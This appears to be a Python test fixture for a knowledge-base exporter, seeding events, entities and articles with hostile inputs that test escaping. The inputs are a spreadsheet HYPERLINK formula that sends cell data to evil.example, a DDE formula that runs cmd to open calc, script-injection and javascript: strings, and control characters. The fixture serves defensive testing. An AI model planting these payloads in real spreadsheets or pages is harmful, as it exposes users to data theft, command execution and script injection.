"""Gathered events that would break a careless writer: formulas, script, quotes, control characters, odd dates."""

from __future__ import annotations

from dataclasses import replace

from kb.ask.claims import ClaimRow
from kb.ask.rows import ArticleRow, Named
from kb.ask.timeline import TimelineRow
from kb.export.material import Entity, Exported, Happening, Part, Sentence

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(1)>"
ODD = "“quoted” 'single' \"double\" \\back, comma; semicolon\nline\ttab \x0b\x00 😀 é \u2028 end"


def row(
    id: str, title: str, edtf: str | None, earliest: str | None, latest: str | None, status: str = "asserted"
) -> TimelineRow:
    return TimelineRow(id, title, "CONSULT", edtf, earliest, latest, "day", status, 0.8, 0.9, None, (), (), 3, 2, 0.7)


def happening(shown: TimelineRow, text: str = "They met.", wholes: tuple[str, ...] = ()) -> Happening:
    parts = (Part("person-1", "agent"), Part("organization-1", "patient"))
    return Happening(shown, parts, ("place-1",), wholes, (Sentence(text, "article-1"),))


NOTED = replace(
    happening(row("event-1", FORMULA, "2014-03-18", "2014-03-18", "2014-03-18"), SCRIPT), tags="law", note=FORMULA
)
EVENTS = (
    happening(row("event-5", "Founding of a city", "-0752", "-0752-01-01", "-0752-12-31")),
    NOTED,
    happening(row("event-2", SCRIPT, "2014-03", "2014-03-01", "2014-03-31", "alleged"), ODD, ("event-4",)),
    happening(row("event-3", ODD, "2022-03-27/2022-04-02~", "2022-03-27", "2022-04-02", "denied"), FORMULA),
    happening(row("event-4", "War", "2014/..", "2014-01-01", None, "planned"), "-1 is where a formula might begin"),
    happening(row("event-6", "To the end of days", "9999-12-31", "9999-12-31", "9999-12-31")),
    happening(row("event-7", "Before then", "../1990", None, "1990-12-31")),
)

ENTITIES = {
    "person-1": Entity("person-1", "@SUM(1+1)*cmd|' /C calc'!A0", "Person", "", "", ("Anna", SCRIPT)),
    "organization-1": Entity("organization-1", "Ministry", "Organization", "government", "DE"),
    "place-1": Entity("place-1", "Kyiv", "Place", "city", "UA", ("Kiev",), 50.45, 30.52),
}

ARTICLES = {
    "article-1": ArticleRow("article-1", SCRIPT, "=cmd()", "javascript:alert(1)", "2014-03-19~", "metadata", "a.html"),
    "article-2": ArticleRow(
        "article-2", "A look back", "The Morning", "https://example.org/a?b=1&c=2", "2022", "url", "b"
    ),
}

CLAIMS = (
    ClaimRow("claim-1", ODD, Named("person-1", "Anna", "Person"), "she", "said", True, "2014-03-18", "positive",
             "asserted", 0.9, (Named("event-1", FORMULA, "Event", "2014-03-18"),), (), None, "They met.",
             ARTICLES["article-2"]),
)  # fmt: skip

SAMPLE = Exported(f"Events {SCRIPT}", "2026-11-29T20:15:30.123+00:00", 9, EVENTS, ENTITIES, ARTICLES, CLAIMS)
